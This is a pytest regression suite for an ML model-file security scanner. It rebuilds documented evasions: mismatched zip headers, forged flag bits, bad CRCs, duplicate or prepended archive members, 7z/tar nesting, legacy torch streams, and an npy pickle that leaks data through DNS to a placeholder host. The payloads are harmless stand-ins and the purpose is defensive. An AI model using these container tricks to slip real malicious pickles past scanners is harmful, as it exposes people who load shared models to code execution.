"""Family D (container and file-type tricks) plus the container-bound advisories of families A and C:
legacy torch files (A-47, C-20), ``.npy`` object arrays (C-21), zip header games, 7z, tar and nesting.
Formats are decided by content; the extension is only ever part of the file name.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile

import pytest
from regress_lib import (
    BENIGN_P2,
    EMPTY_DICT,
    EMPTY_LIST,
    GETCWD_P0,
    GETCWD_P2,
    call,
    expect,
    glob,
    legacy_torch,
    npy_object,
    p2,
    p4,
    plain_zip,
    s4_call,
    scan_existing,
    scan_file,
    seven_zip,
    sg,
    tar_bytes,
    torch_zip,
)

from mlwarden.scanning import Severity

C, H, M = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM
CVE = "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/"
GETCWD_P4 = s4_call("os", "getcwd")
EVAL_PRINT = p4(call(sg("builtins", "eval"), "print('456')"))


def _patch_flags(archive: bytes, name: str, bits: int, *, local: bool = True, central: bool = True) -> bytes:
    """OR ``bits`` into the general-purpose flags of ``name`` (local header +6, central directory +8)."""
    out = bytearray(archive)
    raw = name.encode()
    pos = 0
    while (pos := out.find(b"PK\x03\x04", pos)) >= 0:
        (nlen,) = struct.unpack_from("<H", out, pos + 26)
        if local and bytes(out[pos + 30 : pos + 30 + nlen]) == raw:
            struct.pack_into("<H", out, pos + 6, struct.unpack_from("<H", out, pos + 6)[0] | bits)
        pos += 4
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) >= 0:
        (nlen,) = struct.unpack_from("<H", out, pos + 28)
        if central and bytes(out[pos + 46 : pos + 46 + nlen]) == raw:
            struct.pack_into("<H", out, pos + 8, struct.unpack_from("<H", out, pos + 8)[0] | bits)
        pos += 4
    return bytes(out)


# -- D-01 ... D-03: member names and extensions ------------------------------------------------------
def test_d01_pickle_member_with_non_pickle_extension(tmp_path) -> None:
    """D-01, CVE-2025-1889 / GHSA-769v-p64c-89pr (Sonatype; PYSEC-2025-19): picklescan only opened zip members
    with pickle extensions. Source:
    https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/1xxx/CVE-2025-1889.json (fixture
    malicious1_wrong_ext.zip).
    """
    findings = scan_file(tmp_path, "malicious1_wrong_ext.zip", plain_zip([("data.txt", GETCWD_P4)]))
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member="data.txt")


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(s4_call("posix", "getcwd"), id="D-02-CVE-2025-10155-p4"),
        pytest.param(b"cposix\ngetcwd\n(tR.", id="D-02-CVE-2025-10155-p0"),
    ],
)
def test_d02_plain_pickle_with_torch_extension(payload: bytes, tmp_path) -> None:
    """D-02, CVE-2025-10155 / GHSA-jgw4-cr84-mqxg (JFrog): a ``.bin`` that is neither a zip nor a legacy torch
    file raised "invalid magic" in picklescan instead of being scanned as a pickle. Source:
    https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/10xxx/CVE-2025-10155.json
    """
    findings = scan_file(tmp_path, "pytorch_model.bin", payload)
    expect(findings, C, construct="posix.getcwd", rule="pickle/dangerous-global")


@pytest.mark.parametrize(
    "ext",
    [".bin", ".pt", ".pth", ".safetensors", ".onnx", ".keras", ".h5", ".npz", ".model", ".weights"],
    ids=lambda e: f"D-03-HF-neimasilk-{e}",
)
def test_d03_extension_routing(ext: str, tmp_path) -> None:
    """D-03, modelscan extension routing (https://huggingface.co/neimasilk/modelscan-extension-mismatch-poc):
    the same raw pickle saved under ten model extensions was not sent to the pickle scanner.
    """
    findings = scan_file(tmp_path, f"model{ext}", GETCWD_P2)
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global")


# -- D-04 ... D-06: zip header inconsistencies that zipfile refuses and miniz ignores -------------------
def test_d04_local_header_name_differs_from_central_directory(tmp_path) -> None:
    """D-04, CVE-2025-1944 / GHSA-7q5r-7gvp-wc82 (Sonatype; "Zip Exploit Crashes Picklescan But Not PyTorch",
    https://github.com/protectai/modelscan/issues/263): only the first ``data.pkl`` (the local header) is
    renamed.
    """
    archive = torch_zip(GETCWD_P2).replace(b"data.pkl", b"datap.kl", 1)
    findings = scan_file(tmp_path, "model.pt", archive)
    expect(findings, H, rule="zip/name-mismatch", construct="archive/data.pkl")
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member="archive/data.pkl")


@pytest.mark.parametrize(
    ("bits", "local", "central"),
    [
        pytest.param(0x1, True, True, id="D-05-CVE-2025-1945-0x1"),
        pytest.param(0x20, True, True, id="D-05-CVE-2025-1945-0x20"),
        pytest.param(0x40, True, True, id="D-05-CVE-2025-1945-0x40"),
        pytest.param(0x1, True, False, id="D-05-CVE-2025-1945-0x1-local-only"),
        pytest.param(0x1, False, True, id="D-05-CVE-2025-1945-0x1-central-only"),
    ],
)
def test_d05_general_purpose_flag_bits(bits: int, local: bool, central: bool, tmp_path) -> None:
    """D-05, CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (Sonatype): encryption / patched-data / strong-encryption
    flags set on plain STORED data; Python's zipfile refuses the member, PyTorch ignores the flags. Source:
    https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/1xxx/CVE-2025-1945.json
    """
    archive = _patch_flags(torch_zip(GETCWD_P2), "archive/data.pkl", bits, local=local, central=central)
    findings = scan_file(tmp_path, "model.pt", archive)
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member="archive/data.pkl")
    if bits == 0x1:
        expect(findings, H, rule="zip/")  # encrypted flag or local/central disagreement


def test_d06_bad_crc(tmp_path) -> None:
    """D-06, CVE-2025-10156 / GHSA-mjqp-26hc-grxg (JFrog; picklescan initialize_corrupt_zip_file_crc): the
    payload is edited after zipping, so zipfile raises "Bad CRC-32" while torch does not check. Source:
    https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/10xxx/CVE-2025-10156.json
    """
    archive = torch_zip(EVAL_PRINT).replace(b"print('456')", b"print('123')")
    findings = scan_file(tmp_path, "model.pt", archive)
    expect(findings, C, construct="builtins.eval", rule="pickle/dangerous-global", member="archive/data.pkl")
    expect(findings, M, rule="zip/crc-mismatch")


# -- D-07 ... D-11 --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "member", ["data.pkl", "data.txt"], ids=["D-07-PS-25d753f-data.pkl", "D-07-PS-25d753f-data.txt"]
)
def test_d07_seven_zip(member: str, tmp_path) -> None:
    """D-07, picklescan 7z support (commit 25d753f; https://github.com/mmaitre314/picklescan/commit/25d753f):
    picklescan only extracts 7z members with pickle extensions, so ``data.txt`` is never scanned.
    """
    path = seven_zip(tmp_path / "model.7z", [(member, GETCWD_P2)])
    findings = scan_existing(path)
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member=member)


def test_d08_protocol0_member_in_zip(tmp_path) -> None:
    """D-08, ModelAudit PR #624 (https://github.com/promptfoo/modelaudit/pull/624, fix 2bce49d4): protocol 0
    has no ``\\x80`` magic, so member sniffing by magic missed ``payload.txt``.
    """
    findings = scan_file(tmp_path, "bundle.zip", plain_zip([("payload.txt", GETCWD_P0)]))
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member="payload.txt")


def test_d09_duplicate_data_pkl(tmp_path) -> None:
    """D-09, https://huggingface.co/Fitscha/modelscan-pytorch-dup-datapkl-bypass-poc : two
    ``archive/data.pkl`` entries; zipfile opens the last (benign), torch's miniz reader the first (malicious).
    """
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        archive = torch_zip(GETCWD_P2, extra=[("archive/data.pkl", BENIGN_P2)])
    findings = scan_file(tmp_path, "model.pt", archive)
    expect(findings, H, rule="zip/duplicate-name", construct="archive/data.pkl")
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member="archive/data.pkl")


def test_d10_case_mangled_record_name(tmp_path) -> None:
    """D-10, https://huggingface.co/pauliquib/picklescan-zip-case-desync-poc : the object pickle is stored as
    ``poc/DATA.PKL`` in protocol 0, so neither a case-sensitive extension match nor ``\\x80`` sniffing sees
    it.
    """
    archive = plain_zip([("poc/DATA.PKL", GETCWD_P0), ("poc/version", b"3\n"), ("poc/byteorder", b"little")])
    findings = scan_file(tmp_path, "model.pt", archive)
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global", member="poc/DATA.PKL")


def test_d11_zip_parser_differential_prepended_archive(tmp_path) -> None:
    """D-11, https://huggingface.co/EnigmaConsultant/huntr-poc-pt-zip-differential (methods not read; this is
    the catalogue's "prepended data / wrong central-directory offset" candidate): a malicious archive is
    prepended to a benign one, whose end record no longer matches its offsets. Readers that trust the first
    local header see the payload; readers that trust the end record see the benign checkpoint.
    """
    archive = torch_zip(GETCWD_P2) + torch_zip(BENIGN_P2)
    findings = scan_file(tmp_path, "model.pt", archive)
    expect(findings, M, rule="zip/prepended-data")
    expect(findings, H, rule="zip/hidden-member")
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global")


def test_d12_symlink_member(tmp_path) -> None:
    """D-12, ModelAudit PR #502 (https://github.com/promptfoo/modelaudit/pull/502, commit b31dd242): a symlink
    member (``external_attr = 0o120777 << 16``) pointing out of the extraction directory.
    """
    info = zipfile.ZipInfo("archive/extra/link")
    info.external_attr = 0o120777 << 16
    archive = plain_zip([("archive/data.pkl", BENIGN_P2)])
    buf = io.BytesIO(archive)
    with zipfile.ZipFile(buf, "a") as zf:
        zf.writestr(info, "../../etc/hostname")
    findings = scan_file(tmp_path, "model.pt", buf.getvalue())
    expect(findings, M, rule="zip/symlink", construct="archive/extra/link")


# -- legacy torch (A-47, C-20) ----------------------------------------------------------------------
def test_a47_legacy_torch_eval_magic_number(tmp_path) -> None:
    """A-47, GHSA-97f8-7cmv-76j2
    (https://github.com/mmaitre314/picklescan/security/advisories/GHSA-97f8-7cmv-76j2): the magic-number
    pickle of a legacy torch file is ``eval("0x1950A86A20F9469CFC6C")``; picklescan's ``get_magic_number``
    failed and the file was never scanned.
    """
    magic = p2(call(glob("builtins", "eval"), "0x1950A86A20F9469CFC6C", p=2))
    data = magic + p2(b"M\xe9\x03") + p2(EMPTY_DICT) + p2(EMPTY_LIST) + GETCWD_P2 + p2(b"N")
    findings = scan_file(tmp_path, "model.pt", data)
    expect(findings, C, construct="builtins.eval", rule="pickle/dangerous-global")
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global")


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(legacy_torch(GETCWD_P2), id="C-20-HF-cmpndry-modelscan-first-pickle-only"),
        pytest.param(
            b"I0x10\n." * 6 + legacy_torch(GETCWD_P2), id="C-20-HF-TESTforge42-six-junk-int-pickles"
        ),
        pytest.param(legacy_torch(BENIGN_P2, trailer=GETCWD_P2), id="C-20-payload-as-storage-keys"),
    ],
)
def test_c20_legacy_torch_every_stream(data: bytes, tmp_path) -> None:
    """C-20: picklescan's legacy branch scans at most 5 streams; modelscan only the first.
    ``torch._legacy_load`` reads them all. Sources:
    https://huggingface.co/TESTforge42/scanner-bypass-legacy-pt-desync ,
    https://huggingface.co/cmpndry/modelscan-multipickle-poc
    """
    findings = scan_file(tmp_path, "pytorch_model.bin", data)
    expect(findings, C, construct="os.getcwd", rule="pickle/dangerous-global")


# -- .npy object arrays (C-21) -----------------------------------------------------------------------
@pytest.mark.parametrize(
    "name", ["dns_exfiltration.npy", "weights.dat"], ids=["C-21-PS-npy", "C-21-PS-npy-renamed"]
)
def test_c21_npy_object_array_pickle(name: str, tmp_path) -> None:
    """C-21, picklescan fixture dns_exfiltration.npy (https://github.com/mmaitre314/picklescan, tests/): an
    object array's pickle calls ``ssl.get_server_certificate(("<fqdn>", 443))``, leaking data through DNS.
    """
    payload = p2(call(glob("ssl", "get_server_certificate"), ("canary.example.invalid", 443), p=2))
    findings = scan_file(tmp_path, name, npy_object(payload))
    expect(findings, H, construct="ssl.get_server_certificate", rule="pickle/", member="<array pickle>")


def test_c21_npz_of_object_arrays(tmp_path) -> None:
    """C-21 inside ``.npz`` (a zip of .npy members): the same object-array pickle one container deeper."""
    payload = p2(call(glob("ssl", "get_server_certificate"), ("canary.example.invalid", 443), p=2))
    findings = scan_file(
        tmp_path, "arrays.npz", plain_zip([("x.npy", npy_object(payload))], zipfile.ZIP_DEFLATED)
    )
    expect(findings, H, construct="ssl.get_server_certificate", member="x.npy!<array pickle>")


# -- nesting ------------------------------------------------------------------------------------------
def test_nested_tar_zip_pickle(tmp_path) -> None:
    """D-01 / D-11 through nesting: a torch checkpoint inside a tar; the member path names every level.
    Source: catalogue D-01 (CVE-2025-1889) applied to loaders that unpack archives before ``torch.load``.
    """
    data = tar_bytes([("model/pytorch_model.bin", torch_zip(GETCWD_P2)), ("model/config.json", b"{}")])
    findings = scan_file(tmp_path, "weights.tar", data)
    expect(findings, C, construct="os.getcwd", member="model/pytorch_model.bin!archive/data.pkl")


def test_nested_7z_in_zip(tmp_path) -> None:
    """D-07 nested: a 7z archive (data.txt) stored inside a zip."""
    inner = seven_zip(tmp_path / "inner.7z", [("data.txt", GETCWD_P0)]).read_bytes()
    findings = scan_file(tmp_path, "bundle.zip", plain_zip([("weights.7z", inner)]))
    expect(findings, C, construct="os.getcwd", member="weights.7z!data.txt")


def test_d12_compression_ratio_bomb(tmp_path) -> None:
    """D-12, ModelAudit PR #502 (https://github.com/promptfoo/modelaudit/pull/502): a member whose compression
    ratio exceeds 100:1 is a DoS indicator (MEDIUM). 16 MiB of zeros deflate to about 16 KiB.
    """
    archive = plain_zip(
        [("archive/data.pkl", BENIGN_P2), ("archive/data/0", bytes(16 << 20))], zipfile.ZIP_DEFLATED
    )
    findings = scan_file(tmp_path, "model.pt", archive)
    assert any(f.severity >= M and "ratio" in f.message for f in findings), findings
